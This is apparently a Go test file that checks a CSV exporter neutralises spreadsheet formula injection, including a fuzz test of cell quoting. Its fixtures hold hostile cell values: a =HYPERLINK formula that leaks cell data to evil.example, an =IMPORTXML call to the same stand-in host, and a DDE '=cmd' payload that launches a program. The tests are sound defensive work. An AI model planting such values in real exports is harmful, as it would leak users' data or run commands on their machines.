package cooperation_test

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"github.com/chancery-platform/chancery/cooperation"
	"github.com/chancery-platform/chancery/mission"
)

// runsAsFormula is what a spreadsheet opening a CSV cell may run: a cell
// that starts with = + - @ (or tab or CR), unless it is a plain number.
func runsAsFormula(cell string) bool {
	return regexp.MustCompile(`^[=+\-@\t\r]`).MatchString(cell) && !regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`).MatchString(cell)
}

// TestAbuse13CSVFormulasNeutralised exports a record whose values a
// spreadsheet would run as formulas (=HYPERLINK among them): no cell of
// the file starts a formula, and importing the file gives back every
// value as it was.
func TestAbuse13CSVFormulasNeutralised(t *testing.T) {
	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`
	e := cooperation.Entity{ID: "formula-test", Kind: cooperation.Place, Country: "BY",
		Name:      mission.Text{"en": hyperlink, "ru": "+7 (495) 000-00-00", "zh": "@SUM(1+1)", "be": "-2+3"},
		About:     mission.Text{"en": "=1+1", "ru": "'=already quoted", "zh": "-5", "be": "=cmd|' /C calc'!A0"},
		Aliases:   []cooperation.Alias{{Text: "''+quoted twice"}, {Text: "=1", Lang: "en"}, {Text: "plain"}},
		Citations: []mission.Citation{{SourceID: "s1", Quote: "=IMPORTXML(\"http://evil.example\")"}}}
	var buf bytes.Buffer
	if err := cooperation.WriteCSV(&buf, cooperation.KindEntity, []cooperation.Record{e}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if runsAsFormula(cell) {
				t.Errorf("the export has a cell a spreadsheet runs: %q", cell)
			}
		}
	}
	if !strings.Contains(buf.String(), `'=HYPERLINK(`) {
		t.Errorf("=HYPERLINK not written as text:\n%s", buf.String())
	}
	back, err := cooperation.ReadCSV(&buf, cooperation.KindEntity)
	if err != nil {
		t.Fatal(err)
	}
	if len(back) != 1 || !reflect.DeepEqual(back[0].Record, cooperation.Record(e)) {
		t.Fatalf("the import of the export changed the record:\n got %#v\nwant %#v", back, e)
	}
}

// FuzzCSVFormulaCell: no value is written as a cell a spreadsheet runs,
// and every cell reads back as the value written.
func FuzzCSVFormulaCell(f *testing.F) {
	for _, s := range []string{`=HYPERLINK("http://x","y")`, "+1", "-1", "-1+1", "@A1", "\t=1", "\r=1", "'=1", "''@", "'", "", "plain", "-5.25"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		cell := cooperation.CSVCell(v)
		if runsAsFormula(cell) {
			t.Fatalf("%q written as %q, which runs", v, cell)
		}
		if back := cooperation.CSVValue(cell); back != v {
			t.Fatalf("%q written as %q reads back as %q", v, cell, back)
		}
	})
}
